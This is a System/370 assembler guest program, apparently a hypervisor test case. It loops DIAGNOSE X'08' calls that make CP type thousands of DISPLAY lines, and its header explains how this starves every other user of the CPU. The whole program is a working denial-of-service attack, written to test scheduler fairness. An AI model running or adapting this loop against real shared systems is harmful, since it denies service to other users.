***********************************************************************
*  DISPFLOOD: DIAGNOSE X'08' that makes CP type thousands of lines.   *
*                                                                     *
*  The attack (on the CPU share).  One DIAGNOSE X'08' runs fourteen   *
*  "D 0.1000" commands (DISPLAY of the first 4K of its own storage,   *
*  256 lines each, X'15' between them): 3584 lines for the guest's    *
*  terminal, in a loop.  CP queues 16 lines a terminal; for the rest  *
*  it waits until the terminal has typed one (TDRAIN), polling that   *
*  terminal alone, dispatching nobody, until the DIAGNOSE is done.    *
*  The time is charged to this machine's slice - but the slice is     *
*  looked at only when the DIAGNOSE is over: every other user waits   *
*  for all 3584 lines.                                                *
*                                                                     *
*  A correct CP lets the others run while this terminal types (makes  *
*  the machine wait for its output, as it does for console writes),   *
*  or bounds what one DIAGNOSE may make it type at once: the victim   *
*  answers within his bound.  It never ends.                          *
***********************************************************************
         COPY  GUEST
DISPFLD  START X'8000'
         BALR  R12,0
         USING *,R12
LOOP     LA    R2,CMDS
         LA    R3,CMDSLEN
         DIAG  R2,R3,X'08'
         B     LOOP
CMDS     DC    13X'C440F04BF1F0F0F015',C'D 0.1000'    "D 0.1000" 14 times
CMDSLEN  EQU   *-CMDS
         END
